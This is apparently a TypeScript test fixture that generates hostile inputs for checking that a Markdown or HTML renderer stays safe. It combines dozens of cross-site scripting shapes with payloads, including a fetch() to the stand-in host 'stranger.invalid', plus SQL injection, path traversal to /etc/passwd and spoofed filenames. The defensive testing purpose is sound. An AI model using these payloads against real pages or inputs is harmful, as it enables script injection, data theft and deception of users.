/**
 * Texts that try to become code, to be opened, or to fetch something; written for these tests.
 *
 * Each is a shape (how code gets into a page) filled with each of several deeds (what it would do). A
 * deed leaves a mark on the window, opens a dialog, or asks a stranger's server.
 */
import { PWNED } from "./watch.ts";

/** A server that nobody may be led to. */
export const STRANGER = "http://stranger.invalid";

const DEEDS = [
  `window.${PWNED}=1`,
  `alert('attune')`,
  `fetch('${STRANGER}/deed')`,
  `top.${PWNED}=parent.${PWNED}=1`,
];

/** `%` stands for the deed. */
const SHAPES = [
  // elements that run
  "<script>%</script>",
  '<script type="module">%</script>',
  "<ScRiPt>%</sCrIpT >",
  "<scr<script>ipt>%</scr</script>ipt>",
  "</textarea></title></style><script>%</script>",
  "<template><script>%</script></template>",
  "<noscript><p title=\"</noscript><script>%</script>\">",
  // elements with handlers
  '<img src=x onerror="%">',
  "<img src=x onerror=%>",
  '<img/src="x"/onerror="%"//',
  '<body onload="%">',
  '<details open ontoggle="%"><summary>x</summary></details>',
  '<input autofocus onfocus="%">',
  '<video><source onerror="%"></video>',
  '<audio src=x onerror="%">',
  '<marquee onstart="%">x</marquee>',
  '<div style="animation:x 1s" onanimationstart="%">x</div>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<object data="javascript:%"></object>',
  '<embed src="javascript:%">',
  '<form action="javascript:%"><button>x</button></form>',
  '<button formaction="javascript:%">x</button>',
  '<math><mtext><table><mglyph><style><img src=x onerror="%"></style></mglyph></table></mtext></math>',
  // drawings
  '<svg onload="%"></svg>',
  "<svg><script>%</script></svg>",
  '<svg><animate onbegin="%" attributeName="x" dur="1s"/></svg>',
  '<svg><a xlink:href="javascript:%"><text y="20">x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror="%"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=%>"/></svg>',
  // addresses
  "[x](javascript:%)",
  "[x](JaVaScRiPt:%)",
  "[x](java\nscript:%)",
  "[x](java\tscript:%)",
  "[x](&#106;avascript:%)",
  "[x](\u0001javascript:%)",
  "[x](vbscript:%)",
  "[x](data:text/html,<script>%</script>)",
  "<javascript:%>",
  "[x]: javascript:%\n\n[x]",
  '[x](http://ok.example "onmouseover=%")',
  '[x](http://ok.example" onclick="%)',
  '<a href="javascript:%">x</a>',
  '<a href="http://ok.example" onclick="%">x</a>',
  // Markdown
  "![x](javascript:%)",
  '![x" onerror="%](x)',
  "```html\n<script>%</script>\n```",
  "`<script>%</script>`",
  "| a |\n|---|\n| <img src=x onerror=%> |",
  "> <script>%</script>",
  "- <svg onload=%>",
  // templates, if a text were ever treated as one
  "{{constructor.constructor('%')()}}",
  "${%}",
  "#{%}",
  "<%= % %>",
  "{{#with (lookup this 'constructor')}}%{{/with}}",
  "%{contact.name}{{contact.name}}",
  // out of a string or an attribute
  "';%;//",
  '";%;//',
  '"><script>%</script>',
  "'><img src=x onerror=%>",
  "--><script>%</script><!--",
  "]]><script>%</script>",
  "\\u003cscript\\u003e%\\u003c/script\\u003e",
  "&lt;script&gt;%&lt;/script&gt;",
];

/** Texts without code: pictures and styles that would fetch, and marks that deceive the eye. */
const PLAIN = [
  `![x](${STRANGER}/picture.png)`,
  `![x][p]\n\n[p]: ${STRANGER}/reference.png`,
  `<img src="${STRANGER}/img.png">`,
  `<img srcset="${STRANGER}/set.png 2x">`,
  `<link rel="stylesheet" href="${STRANGER}/sheet.css">`,
  `<link rel="prefetch" href="${STRANGER}/prefetch">`,
  `<style>@import "${STRANGER}/import.css"</style>`,
  `<div style="background:url(${STRANGER}/background.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${STRANGER}/refresh">`,
  `<base href="${STRANGER}/">`,
  `<iframe src="${STRANGER}/frame"></iframe>`,
  `<video poster="${STRANGER}/poster.png"></video>`,
  `<svg><image href="${STRANGER}/image.svg"/></svg>`,
  `[x](//stranger.invalid/relative)`,
  "photo\u202egnp.exe",
  "\u2066invoice\u2069\u202efdp.\u202cscr",
  `${"Z\u0351\u0346\u0342\u030d\u0334".repeat(40)}`,
  "\u200b\u200b\u200b",
  "\ufeff\u0000\u0007\u001b[31mred",
  "＜script＞alert(1)＜/script＞",
  "👩‍👩‍👧‍👦".repeat(60),
  "ﷺ".repeat(200),
  "a".repeat(2_000),
  "__proto__",
  "constructor",
  "null",
  "-1",
  "' OR 1=1; DROP TABLE message; --",
  "../../../../etc/passwd",
];

/** Every text. */
export const HOSTILE: readonly string[] = [
  ...SHAPES.flatMap((shape) => DEEDS.map((deed) => shape.replaceAll("%", deed))),
  ...PLAIN,
];

/** One text of each kind, on one line, for names and other short fields. */
export const HOSTILE_NAMES: readonly string[] = [
  ...SHAPES.map((shape, index) => shape.replaceAll("%", DEEDS[index % DEEDS.length] ?? "")),
  ...PLAIN,
].filter((text) => text.length <= 100 && !/[\n\t\u0000-\u001f]/.test(text));
